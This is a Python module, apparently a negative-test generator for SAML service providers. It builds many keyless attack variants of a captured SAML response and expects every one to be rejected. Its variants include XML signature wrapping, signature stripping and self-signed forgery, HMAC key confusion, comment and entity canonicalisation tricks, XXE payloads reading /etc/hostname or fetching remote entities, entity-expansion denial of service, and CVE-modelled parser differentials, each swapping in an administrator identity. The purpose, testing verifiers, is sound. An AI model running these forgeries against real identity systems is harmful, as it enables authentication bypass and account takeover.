"""Keyless attacks on a captured SAML response: what anybody can make of it without the provider's key.

Named after public advisories. `tolerable`: accepting it while keeping the original person would not be a break; it is
refused all the same. `ctx` says how it is delivered: `replay` a second time, `request_id` to another session.
The base is signed on the Assertion, the Response or both; each variant adapts to what it finds. `evil` is the person
who is put in: whoever returns that name is broken.
"""

import base64
import copy
import datetime as dt
import hashlib
import hmac
import os
import re
import uuid
from dataclasses import dataclass, field

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from lxml import etree

NS = {
    "p": "urn:oasis:names:tc:SAML:2.0:protocol",
    "a": "urn:oasis:names:tc:SAML:2.0:assertion",
    "d": "http://www.w3.org/2000/09/xmldsig#",
    "x": "http://www.w3.org/2001/04/xmlenc#",
}
P, A, D, X = (f"{{{NS[k]}}}" for k in "padx")
C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
ENV = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"
RS256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
RS1 = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
SHA1 = "http://www.w3.org/2000/09/xmldsig#sha1"


@dataclass
class V:
    name: str
    family: str
    xml: bytes
    note: str = ""
    tolerable: bool = False
    ctx: dict = field(default_factory=dict)
    expect: str = "reject"
    needs_key: bool = False


def parse(x):
    return etree.fromstring(x, etree.XMLParser(resolve_entities=False, no_network=True, remove_blank_text=False))


def out(r):
    return etree.tostring(r)


def c14n(el, comments=False):
    return etree.tostring(el, method="c14n", exclusive=True, with_comments=comments)


def asr(r):
    return r.find(".//a:Assertion", NS) if r.tag != A + "Assertion" else r


def sig_of(el):
    return el.find("d:Signature", NS)


def nid(r):
    return r.find(".//a:Subject/a:NameID", NS)


def iso(dt):
    return dt.strftime("%Y-%m-%dT%H:%M:%SZ")


def now(**k):
    return dt.datetime.now(dt.UTC) + dt.timedelta(**k)


def digest(el, alg=SHA256):
    e = copy.deepcopy(el)
    for s in e.findall("d:Signature", NS):
        _rm(s)
    return base64.b64encode(hashlib.new("sha256" if alg == SHA256 else "sha1", c14n(e)).digest()).decode()


def _rm(s):
    p = s.getparent()
    t = s.tail
    if t:
        q = s.getprevious()
        if q is not None:
            q.tail = (q.tail or "") + t
        else:
            p.text = (p.text or "") + t
    p.remove(s)


def strip(r, which="all"):
    for s in list(r.iter(D + "Signature")):
        if which == "all" or s.getparent() is which:
            _rm(s)
    return r


def sign(el, key, cert_der=None, sigalg=RS256, dalg=SHA256, hmackey=None, uri=None, keyinfo=True):
    """enveloped exc-c14n signature after Issuer; independent of xmlsec."""
    old = sig_of(el)
    if old is not None:
        _rm(old)
    tmp = parse(c14n(el))  # detached copy for digest
    dv = base64.b64encode(hashlib.new("sha1" if dalg == SHA1 else "sha256", c14n(tmp)).digest()).decode()
    s = parse(
        f'<ds:Signature xmlns:ds="{NS["d"]}"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="{C14N}"/><ds:SignatureMethod Algorithm="{sigalg}"/><ds:Reference URI="{uri if uri is not None else "#" + el.get("ID", "")}"><ds:Transforms><ds:Transform Algorithm="{ENV}"/><ds:Transform Algorithm="{C14N}"/></ds:Transforms><ds:DigestMethod Algorithm="{dalg}"/><ds:DigestValue>{dv}</ds:DigestValue></ds:Reference></ds:SignedInfo><ds:SignatureValue/></ds:Signature>'.encode()
    )
    si = c14n(s[0])
    if hmackey is not None:
        v = hmac.new(hmackey, si, "sha1" if "sha1" in sigalg else "sha256").digest()
    else:
        v = key.sign(si, padding.PKCS1v15(), hashes.SHA1() if sigalg == RS1 else hashes.SHA256())
    s[1].text = base64.b64encode(v).decode()
    if cert_der and keyinfo:
        ki = etree.SubElement(s, D + "KeyInfo")
        xd = etree.SubElement(ki, D + "X509Data")
        etree.SubElement(xd, D + "X509Certificate").text = base64.b64encode(cert_der).decode()
    iss = el.find("a:Issuer", NS)
    if iss is not None:
        iss.addnext(s)
    else:
        el.insert(0, s)
    return s


def mkcert(cn="evil.test", issuer_like=None):
    k = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    n = (
        issuer_like.subject
        if issuer_like is not None
        else x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, cn)])
    )
    c = (
        x509.CertificateBuilder()
        .subject_name(n)
        .issuer_name(n)
        .public_key(k.public_key())
        .serial_number(issuer_like.serial_number if issuer_like is not None else 1)
        .not_valid_before(dt.datetime(2020, 1, 1, tzinfo=dt.UTC))
        .not_valid_after(dt.datetime(2040, 1, 1, tzinfo=dt.UTC))
        .sign(k, hashes.SHA256())
    )
    return k, c.public_bytes(serialization.Encoding.DER)


def variants(xml, cert_pem, sp_cert_pem=None, evil="admin@example.org"):
    cert = x509.load_pem_x509_certificate(cert_pem)
    cder = cert.public_bytes(serialization.Encoding.DER)
    spki_pem = cert.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    spki_der = cert.public_key().public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )

    def base():
        return parse(xml)

    def fresh():
        "a copy whose Response is not signed"
        r = base()
        s = sig_of(r)
        if s is not None:
            _rm(s)
        return r

    def renamed(r):
        "the response with the person who is put in"
        nid(r).text = evil
        return r

    b = base()
    real = nid(b).text
    respsigned = sig_of(b) is not None
    asigned = sig_of(asr(b)) is not None
    ek, ecd = mkcert()
    ck, ccd = mkcert(issuer_like=cert)

    def evilize(a, newid=True):
        "turn assertion/response copy into attacker content, unsigned"
        a2 = copy.deepcopy(a)
        for s in list(a2.iter(D + "Signature")):
            _rm(s)
        for n in a2.iter(A + "NameID"):
            n.text = evil
        for v in a2.iter(A + "AttributeValue"):
            if (v.text or "") == real or "@" in (v.text or ""):
                v.text = evil
        if newid:
            a2.set("ID", "_evil" + uuid.uuid4().hex)
        return a2

    found = []

    def add(name, fam, x, note="", tol=False, key=False, **ctx):
        found.append(V(name, fam, x if isinstance(x, bytes) else out(x), note, tol, ctx, "reject", key))

    # ---------- XSW on the Response signature (1,2) and the Assertion signature (3-8), own extras
    if respsigned:
        r = base()
        orig = copy.deepcopy(r)
        s = sig_of(r)
        s = copy.deepcopy(s)
        ev = evilize(r)
        _sig = sig_of(orig)
        _rm(_sig)
        s2 = copy.deepcopy(s)
        s2.append(orig)
        i = ev.find("a:Issuer", NS)
        i.addnext(s2)
        add("xsw1", "xsw", ev, "evil Response; original Response inside its Signature")
        r = base()
        orig = copy.deepcopy(r)
        s = copy.deepcopy(sig_of(r))
        _rm(sig_of(orig))
        ev = evilize(r)
        i = ev.find("a:Issuer", NS)
        i.addnext(s)
        i.addnext(orig)
        add("xsw2", "xsw", ev, "evil Response; original before detached Signature")
        r = base()
        ev = evilize(r)
        ev.append(copy.deepcopy(r))
        add("xsw_response_nested_end", "xsw", ev, "evil unsigned Response wrapping the signed Response")
        r = base()
        ev = evilize(r)
        ext = etree.Element(P + "Extensions")
        ext.append(copy.deepcopy(r))
        ev.find("a:Issuer", NS).addnext(ext)
        add("xsw_response_in_extensions", "xsw", ev)
        r = base()
        ev = evilize(r)
        ob = etree.Element(D + "Object")
        o = copy.deepcopy(r)
        s = copy.deepcopy(sig_of(o))
        _rm(sig_of(o))
        ob.append(o)
        s.append(ob)
        ev.find("a:Issuer", NS).addnext(s)
        add("xsw_response_in_ds_object", "xsw", ev)
        r = base()
        ev = evilize(r, newid=False)
        ev.append(copy.deepcopy(r))
        add("xsw_response_duplicate_id", "xsw", ev, "evil Response has the signed ID")
        r = base()
        ev = evilize(asr(r))
        asr(r).addprevious(ev)
        add("inject_unsigned_assertion_into_signed_response", "xsw", r, "breaks response digest")
    if asigned:
        r = fresh()
        a = asr(r)
        a.addprevious(evilize(a))
        add("xsw3", "xsw", r, "evil Assertion before signed one")
        r = fresh()
        a = asr(r)
        ev = evilize(a)
        a.addprevious(ev)
        r.remove(a)
        ev.append(a)
        add("xsw4", "xsw", r, "signed Assertion nested in evil")
        r = fresh()
        a = asr(r)
        o = copy.deepcopy(a)
        os_ = sig_of(o)
        _rm(os_)
        ev = evilize(a)
        s = copy.deepcopy(sig_of(a))
        ev.find("a:Issuer", NS).addnext(s)
        a.addprevious(ev)
        r.remove(a)
        r.append(o)
        add("xsw5", "xsw", r, "evil carries signature; original appended unsigned")
        r = fresh()
        a = asr(r)
        o = copy.deepcopy(a)
        _rm(sig_of(o))
        ev = evilize(a)
        s = copy.deepcopy(sig_of(a))
        s.append(o)
        ev.find("a:Issuer", NS).addnext(s)
        a.addprevious(ev)
        r.remove(a)
        add("xsw6", "xsw", r, "original inside Signature of evil")
        r = fresh()
        a = asr(r)
        ext = etree.Element(P + "Extensions")
        ext.append(evilize(a, newid=False))
        a.addprevious(ext)
        add("xsw7", "xsw", r, "evil same-ID Assertion in Extensions")
        r = fresh()
        a = asr(r)
        o = copy.deepcopy(a)
        _rm(sig_of(o))
        ev = evilize(a)
        s = copy.deepcopy(sig_of(a))
        ob = etree.Element(D + "Object")
        ob.append(o)
        s.append(ob)
        ev.find("a:Issuer", NS).addnext(s)
        a.addprevious(ev)
        r.remove(a)
        add("xsw8", "xsw", r, "original in ds:Object")
        r = fresh()
        a = asr(r)
        a.addnext(evilize(a))
        add("xsw_evil_after", "xsw", r)
        r = fresh()
        a = asr(r)
        a.addprevious(evilize(a, newid=False))
        add("xsw_duplicate_id_first", "xsw", r, "two Assertions, one ID")
        r = fresh()
        a = asr(r)
        a.addnext(evilize(a, newid=False))
        add("xsw_duplicate_id_last", "xsw", r)
        r = fresh()
        a = asr(r)
        ev = evilize(a)
        st = r.find("p:Status", NS)
        sd = etree.SubElement(st, P + "StatusDetail")
        a.addprevious(ev)
        r.remove(a)
        sd.append(a)
        add("xsw_signed_in_statusdetail", "xsw", r, "node hidden in StatusDetail, evil in place (ruby-saml style)")
        r = fresh()
        a = asr(r)
        ev = evilize(a)
        a.addprevious(ev)
        r.remove(a)
        w = etree.SubElement(r, "Wrapper")
        w.append(a)
        add("xsw_unknown_wrapper", "xsw", r, "SAMLRaider XSW9-like")
        r = fresh()
        a = asr(r)
        ev = evilize(a)
        adv = etree.Element(A + "Advice")
        a.addprevious(ev)
        r.remove(a)
        adv.append(a)
        (ev.find("a:Conditions", NS) if ev.find("a:Conditions", NS) is not None else ev[0]).addnext(adv)
        add("xsw_advice", "xsw", r, "signed Assertion in saml:Advice of evil")
        r = fresh()
        a = asr(r)
        s = copy.deepcopy(sig_of(a))
        ev = evilize(a)
        a.addprevious(ev)
        r.remove(a)
        r.find("a:Issuer", NS).addnext(s)
        ob = etree.SubElement(s, D + "Object")
        ob.append(a)
        add("cve_2025_23369_like_obj", "xsw", r, "sig moved to Response with original in Object")
        r = fresh()
        a = asr(r)
        x = out(r).replace(b'ID="' + a.get("ID").encode(), b'ID="&id;&id;')
        x = b'<!DOCTYPE r [<!ENTITY id "' + a.get("ID").encode()[:1] + b'">]>' + x
        add("cve_2025_23369_entity_id", "parser", x, "entity in ID attribute")
        for nm in ("after", "before"):
            r = fresh()
            a = asr(r)
            ev = renamed(copy.deepcopy(a))
            si0 = sig_of(ev).find("d:SignedInfo", NS)
            si1 = copy.deepcopy(si0)
            si1.find(".//d:DigestValue", NS).text = digest(ev)
            if nm == "after":
                si0.addnext(si1)
            else:
                si0.addprevious(si1)
            r.replace(a, ev)
            add(f"cve_2025_29774_multi_signedinfo_{nm}", "parser", r, f"two SignedInfo, forged one {nm}")
        r = fresh()
        a = asr(r)
        nid(a).text = evil
        dv = a.find(".//d:DigestValue", NS)
        o = dv.text
        dv.text = digest(a)
        dv.append(etree.Comment("x"))
        dv[0].tail = o
        add("cve_2025_29775_digest_comment", "parser", r, "comment splits DigestValue")
        r = fresh()
        a = asr(r)
        nid(a).text = evil
        ext = etree.Element(P + "Extensions")
        d2 = etree.SubElement(ext, D + "DigestValue")
        d2.text = digest(a)
        r.find("a:Issuer", NS).addnext(ext)
        add("cve_2024_45409_digest_smuggle", "parser", r, "forged DigestValue outside SignedInfo")
        r = fresh()
        a = asr(r)
        nid(a).text = evil
        dv = a.find(".//d:DigestValue", NS)
        sd = etree.SubElement(r.find("p:Status", NS), P + "StatusDetail")
        rf = copy.deepcopy(a.find(".//d:Reference", NS))
        rf.find("d:DigestValue", NS).text = digest(a)
        sd.append(rf)
        add("cve_2024_45409_reference_in_statusdetail", "parser", r)
        r = fresh()
        a = asr(r)
        ev = evilize(a)
        s = copy.deepcopy(sig_of(a))
        ev.find("a:Issuer", NS).addnext(s)
        s.addnext(copy.deepcopy(s))
        r.replace(a, ev)
        add("two_signatures_in_evil", "sig", r)
        r = fresh()
        a = asr(r)
        e = evilize(a)
        r.replace(a, e)
        root = etree.Element("root")
        root.append(r)
        root.append(copy.deepcopy(a))
        add("cve_2022_39299_extra_root", "parser", out(r) + out(a), "two document elements")
        r = fresh()
        add("bare_assertion_root", "structure", out(asr(r)), "root is the signed Assertion", True)
        r = fresh()
        a = asr(r)
        st = r.find(".//p:StatusCode", NS)
        st.set("Value", "urn:oasis:names:tc:SAML:2.0:status:Requester")
        add("status_requester", "protocol", r)
        r = fresh()
        r.find("p:Status", NS).getparent().remove(r.find("p:Status", NS))
        add("status_missing", "protocol", r)
        for nm, attribute, value, *about in (
            ("destination_wrong_unsigned_response", "Destination", "https://evil.example/acs"),
            ("destination_empty", "Destination", ""),
            ("destination_prefix", "Destination", "{}.evil.example/"),
            ("inresponseto_response_mismatch", "InResponseTo", "_other"),
            ("response_version_1_1", "Version", "1.1"),
            ("response_issueinstant_1999", "IssueInstant", "1999-01-01T00:00:00Z", "unsigned attribute", True),
        ):
            r = fresh()
            r.set(attribute, value.format(r.get(attribute) or ""))
            add(nm, "protocol", r, *about)
        for nm, attribute, *about in (
            ("destination_missing", "Destination", "allowed by profile only if unsigned; policy reject", True),
            ("inresponseto_response_removed", "InResponseTo", "unsolicited at Response, solicited in Assertion", True),
            ("response_no_id", "ID"),
        ):
            r = fresh()
            r.attrib.pop(attribute, None)
            add(nm, "protocol", r, *about)
        r = fresh()
        r.find("a:Issuer", NS).text = "https://other-idp.example/"
        add("issuer_response_changed", "protocol", r)
        for nm, tag in (
            ("root_logoutresponse", P + "LogoutResponse"),
            ("root_artifactresponse", P + "ArtifactResponse"),
            ("root_wrong_namespace", "{urn:evil}Response"),
        ):
            r = fresh()
            r.tag = tag
            add(nm, "structure", r)
        r = fresh()
        a = asr(r)
        r.append(etree.fromstring(f'<p:Extensions xmlns:p="{NS["p"]}"/>'))
        add("trailing_unknown_child", "structure", r, "schema order broken", True)
    # ---------- signature removal / forgery / tamper
    r = renamed(base())
    add("tamper_nameid", "sig", r)
    r = base()
    for v in r.iter(A + "AttributeValue"):
        v.text = evil
        break
    add("tamper_attribute", "sig", r)
    r = renamed(strip(base()))
    add("all_signatures_removed", "sig", r)
    r = strip(base())
    add("all_signatures_removed_same_identity", "sig", r)
    r = renamed(base())
    for s in r.iter(D + "Signature"):
        for c in list(s):
            s.remove(c)
    add("signature_empty_element", "sig", r)
    r = renamed(base())
    for s in r.iter(D + "SignatureValue"):
        s.text = ""
    add("signaturevalue_empty", "sig", r)
    r = renamed(base())
    for s in r.iter(D + "SignedInfo"):
        for c in s.findall("d:Reference", NS):
            s.remove(c)
    add("reference_removed", "sig", r)
    for nm, uri, note in (
        ("reference_uri_empty", "", ""),
        ("reference_uri_dangling", "#nonexistent", ""),
        ("reference_xpointer", "#xpointer(id('{}'))", ""),
        ("reference_external_uri", "http://127.0.0.1:1/x.xml", "must not be dereferenced"),
    ):
        r = renamed(base())
        for s in r.iter(D + "Reference"):
            s.set("URI", uri.format(s.get("URI")[1:]))
        add(nm, "sig", r, note)
    r = renamed(base())
    for s in r.iter(D + "Reference"):
        s.attrib.pop("URI", None)
    add("reference_uri_missing", "sig", r)
    r = renamed(base())
    for s in r.iter(D + "SignatureMethod"):
        s.set("Algorithm", "http://www.w3.org/2000/09/xmldsig#none")
    add("signaturemethod_none", "sig", r)
    for nm, tr in (
        (
            "xpath_transform",
            f'<ds:Transform xmlns:ds="{NS["d"]}" Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(ancestor-or-self::*[local-name()="NameID"])</ds:XPath></ds:Transform>',
        ),
        (
            "xslt_transform",
            f'<ds:Transform xmlns:ds="{NS["d"]}" Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><x/></xsl:template></xsl:stylesheet></ds:Transform>',
        ),
        (
            "base64_transform",
            f'<ds:Transform xmlns:ds="{NS["d"]}" Algorithm="http://www.w3.org/2000/09/xmldsig#base64"/>',
        ),
    ):
        r = renamed(base())
        for t in r.iter(D + "Transforms"):
            t.append(parse(tr.encode()))
        add(nm, "sig", r)
    r = renamed(base())
    for t in list(r.iter(D + "Transforms")):
        t.getparent().remove(t)
    add("transforms_removed", "sig", r)
    for nm, k, cd in (("selfsigned_keyinfo_evil_cert", ek, ecd), ("selfsigned_cloned_subject_cert", ck, ccd)):
        for tgt in ("assertion", "response", "both"):
            r = renamed(strip(base()))
            if tgt != "response":
                sign(asr(r), k, cd)
            if tgt != "assertion":
                sign(r, k, cd)
            add(f"{nm}_{tgt}", "forge", r)
    r = renamed(strip(base()))
    sign(asr(r), ek, cder)
    add("evil_key_real_cert_in_keyinfo", "forge", r)
    r = renamed(strip(base()))
    s = sign(asr(r), ek, ecd)
    xd = s.find(".//d:X509Data", NS)
    etree.SubElement(xd, D + "X509Certificate").text = base64.b64encode(cder).decode()
    add("two_certs_in_x509data", "forge", r)
    r = renamed(strip(base()))
    s = sign(asr(r), ek, None)
    nums = ek.public_key().public_numbers()

    def i2b(n):
        return base64.b64encode(n.to_bytes((n.bit_length() + 7) // 8, "big")).decode()

    s.append(
        parse(
            f'<ds:KeyInfo xmlns:ds="{NS["d"]}"><ds:KeyValue><ds:RSAKeyValue><ds:Modulus>{i2b(nums.n)}</ds:Modulus><ds:Exponent>{i2b(nums.e)}</ds:Exponent></ds:RSAKeyValue></ds:KeyValue></ds:KeyInfo>'.encode()
        )
    )
    add("keyinfo_keyvalue_evil", "forge", r, "CVE-2021-21239 style")
    r = renamed(strip(base()))
    s = sign(asr(r), ek, None)
    s.append(
        parse(
            f'<ds:KeyInfo xmlns:ds="{NS["d"]}"><ds:RetrievalMethod URI="http://127.0.0.1:1/k" Type="http://www.w3.org/2000/09/xmldsig#rawX509Certificate"/></ds:KeyInfo>'.encode()
        )
    )
    add("keyinfo_retrievalmethod", "forge", r, "SSRF")
    for nm, hk in (("pem", cert_pem), ("spki_pem", spki_pem), ("spki_der", spki_der), ("der", cder), ("empty", b"")):
        r = renamed(strip(base()))
        sign(asr(r), None, cder, sigalg="http://www.w3.org/2001/04/xmldsig-more#hmac-sha256", hmackey=hk)
        add(f"hmac_confusion_{nm}", "forge", r)
    r = renamed(strip(base()))
    sign(asr(r), None, None, sigalg="http://www.w3.org/2000/09/xmldsig#hmac-sha1", hmackey=b"x")
    add(
        "hmac_sha1_truncated",
        "forge",
        out(r).replace(
            b'hmac-sha1"/>', b'hmac-sha1"><ds:HMACOutputLength>0</ds:HMACOutputLength></ds:SignatureMethod>'
        ),
        "HMACOutputLength 0",
    )

    # ---------- text/parser differentials: comments keep an exc-c14n signature valid
    def textmut(fn):
        r = base()
        n = nid(r)
        fn(n)
        return r

    half = len(real) // 2

    def c(n, node):
        n.text = real[:half]
        n.append(node)
        node.tail = real[half:]

    add(
        "comment_in_nameid",
        "comment",
        textmut(lambda n: c(n, etree.Comment("x"))),
        "signature stays valid; truncation = user confusion",
        True,
    )
    add(
        "comment_prefix_nameid",
        "comment",
        textmut(lambda n: (setattr(n, "text", ""), n.append(etree.Comment("x")), setattr(n[0], "tail", real))),
        "text before the comment is empty",
        True,
    )
    add("comment_suffix_nameid", "comment", textmut(lambda n: n.append(etree.Comment("x"))), "", True)
    r = base()
    vs = list(r.iter(A + "AttributeValue"))
    if vs:
        t = vs[0].text or ""
        vs[0].text = t[:2]
        vs[0].append(etree.Comment("x"))
        vs[0][0].tail = t[2:]
        add("comment_in_attribute", "comment", r, "", True)
    r = base()
    au = r.find(".//a:Audience", NS)
    if au is not None:
        t = au.text
        au.text = t[:5]
        au.append(etree.Comment("x"))
        au[0].tail = t[5:]
        add("comment_in_audience", "comment", r, "", True)
    r = base()
    i = asr(r).find("a:Issuer", NS)
    t = i.text
    i.text = t[:5]
    i.append(etree.Comment("x"))
    i[0].tail = t[5:]
    add("comment_in_issuer", "comment", r, "", True)
    add(
        "pi_in_nameid",
        "comment",
        textmut(lambda n: c(n, etree.ProcessingInstruction("x", "y"))),
        "PI is kept by c14n: breaks signature",
    )
    raw = out(base())
    nr = real.encode()
    tagclose = re.search(rb">" + re.escape(nr) + rb"</(?:\w+:)?NameID>", raw)

    def rawsub(new):
        return raw[: tagclose.start() + 1] + new + raw[tagclose.start() + 1 + len(nr) :]

    add(
        "cdata_in_nameid",
        "comment",
        rawsub(nr[:half] + b"<![CDATA[" + nr[half:] + b"]]>"),
        "c14n equal; must read whole",
        True,
    )
    add("charref_in_nameid", "comment", rawsub(b"&#x%x;" % nr[0] + nr[1:]), "c14n equal", True)
    add("element_in_nameid", "comment", rawsub(nr[:half] + b"<x/>" + nr[half:]))
    add("nul_charref", "parser", rawsub(nr + b"&#0;"))

    # ---------- DTD / XXE
    def dt(d, x=raw):
        return b'<?xml version="1.0"?>' + d + re.sub(rb"^<\?xml[^>]*\?>", b"", x)

    add("doctype_only", "dtd", dt(b"<!DOCTYPE foo>"), "signature intact; DTD must be refused", True)
    add(
        "doctype_internal_entity",
        "dtd",
        dt(b'<!DOCTYPE foo [<!ENTITY e "%s">]>' % nr[half:], rawsub(nr[:half] + b"&e;")),
        "c14n equal after expansion",
        True,
    )
    add("doctype_evil_entity", "dtd", dt(b'<!DOCTYPE foo [<!ENTITY e "%s">]>' % evil.encode(), rawsub(b"&e;")))
    add("xxe_file", "dtd", dt(b'<!DOCTYPE foo [<!ENTITY e SYSTEM "file:///etc/hostname">]>', rawsub(b"&e;")))
    add("xxe_http", "dtd", dt(b'<!DOCTYPE foo [<!ENTITY e SYSTEM "http://127.0.0.1:1/x">]>', rawsub(b"&e;")))
    add("xxe_parameter", "dtd", dt(b'<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://127.0.0.1:1/x.dtd"> %p;]>'), "", True)
    add("xxe_external_dtd", "dtd", dt(b'<!DOCTYPE foo SYSTEM "http://127.0.0.1:1/x.dtd">'), "", True)
    add(
        "billion_laughs",
        "dtd",
        dt(
            b'<!DOCTYPE foo [<!ENTITY a0 "lol">'
            + b"".join(b'<!ENTITY a%d "%s">' % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 10))
            + b"]>",
            rawsub(b"&a9;"),
        ),
    )
    add("quadratic_blowup", "dtd", dt(b'<!DOCTYPE foo [<!ENTITY a "' + b"A" * 20000 + b'">]>', rawsub(b"&a;" * 2000)))
    add(
        "dtd_attlist_default_id",
        "dtd",
        dt(b'<!DOCTYPE foo [<!ATTLIST saml:NameID evil CDATA "x">]>'),
        "default attribute injection",
    )
    ev = re.sub(rb"^<\?xml[^>]*\?>", b"", out(evilize(base())))
    rt = re.search(rb"</(?:\w+:)?Response>\s*$", ev)
    pre = ev[: rt.start()]
    rawx = re.sub(rb"^<\?xml[^>]*\?>", b"", raw)
    rt2 = re.search(rb"</(?:\w+:)?Response>\s*$", rawx)
    add(
        "cve_2025_25291_doctype_roundtrip",
        "parser",
        b"<!DOCTYPE response SYSTEM 'x\"><!--'>\n"
        + pre
        + b"<![CDATA[-->\n"
        + rawx[: rt2.start()]
        + b"<!--]]>-->\n"
        + ev[rt.start() :].strip(),
        "DOCTYPE quoting differential",
    )
    add(
        "cve_2025_25292_ns_differential",
        "parser",
        re.sub(
            rb"(<(?:\w+:)?Assertion )",
            rb'\1xmlns:example="http://example.com&#x80;" ',
            out(renamed(strip(base()))),
            count=1,
        ),
        "control char in namespace URI",
    )
    add("xmlns_confusion_lowercase_id", "parser", re.sub(rb' ID="(_[^"]+)"', rb' id="\1" ID="_evil"', raw, count=1))
    add(
        "xml_id_attribute",
        "parser",
        re.sub(rb'(<(?:\w+:)?Assertion[^>]*?) ID="([^"]+)"', rb'\1 xml:id="\2" ID="_evilx"', raw, count=1),
    )
    add(
        "utf16_encoding",
        "parser",
        ('<?xml version="1.0" encoding="UTF-16"?>' + raw.decode()).encode("utf-16"),
        "encoding switch; c14n equal",
        True,
    )
    add("utf7_declared", "parser", b'<?xml version="1.0" encoding="UTF-7"?>' + raw.replace(nr, evil.encode()))
    add("leading_garbage", "parser", b"GARBAGE" + raw)
    add("trailing_garbage", "parser", raw + b"<evil/>")
    add("truncated_xml", "parser", raw[:-10])
    add("empty_document", "parser", b" ")
    add(
        "deep_nesting",
        "dos",
        raw.replace(
            b"</samlp:Status>" if b"</samlp:Status>" in raw else b"</saml2p:Status>",
            b"<a>" * 20000 + b"</a>" * 20000 + b"</samlp:Status>",
        ),
    )
    add(
        "huge_attribute",
        "dos",
        re.sub(rb'Version="2.0"', b'Version="2.0" x="' + b"A" * 12_000_000 + b'"', raw, count=1),
    )
    # ---------- encrypted wrap of unsigned evil (needs SP cert)
    if sp_cert_pem:
        spk = x509.load_pem_x509_certificate(sp_cert_pem).public_key()

        def enc(a):
            k = os.urandom(16)
            iv = os.urandom(16)
            pt = c14n(a)
            n = 16 - len(pt) % 16
            pt += b"\0" * (n - 1) + bytes([n])
            from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

            e = Cipher(algorithms.AES(k), modes.CBC(iv)).encryptor()
            ct = iv + e.update(pt) + e.finalize()
            wk = spk.encrypt(k, padding.OAEP(padding.MGF1(hashes.SHA1()), hashes.SHA1(), None))

            def B(x):
                return base64.b64encode(x).decode()

            return parse(
                f'<saml:EncryptedAssertion xmlns:saml="{NS["a"]}"><xenc:EncryptedData xmlns:xenc="{NS["x"]}" Type="http://www.w3.org/2001/04/xmlenc#Element"><xenc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/><ds:KeyInfo xmlns:ds="{NS["d"]}"><xenc:EncryptedKey><xenc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p"/><xenc:CipherData><xenc:CipherValue>{B(wk)}</xenc:CipherValue></xenc:CipherData></xenc:EncryptedKey></ds:KeyInfo><xenc:CipherData><xenc:CipherValue>{B(ct)}</xenc:CipherValue></xenc:CipherData></xenc:EncryptedData></saml:EncryptedAssertion>'.encode()
            )

        r = fresh()
        a = asr(r)
        ev = evilize(a)
        r.replace(a, enc(ev))
        add("encrypted_unsigned_evil", "enc", r)
        r = fresh()
        a = asr(r)
        a.addprevious(enc(evilize(a)))
        add("encrypted_evil_plus_signed_plain", "enc", r)
        r = fresh()
        a = asr(r)
        a.addnext(enc(evilize(a)))
        add("signed_plain_plus_encrypted_evil", "enc", r)
        r = fresh()
        a = asr(r)
        e2 = evilize(a)
        sign(e2, ek, ecd)
        r.replace(a, enc(e2))
        add("encrypted_selfsigned_evil", "enc", r)
    # ---------- context
    add("replay_same_response", "context", raw, "second delivery of an accepted response", False, replay=True)
    add(
        "inresponseto_other_session",
        "context",
        raw,
        "valid, delivered to a session that sent another request",
        False,
        request_id="_someone_elses_request",
    )
    # ---------- validly re-signed faults
    return found
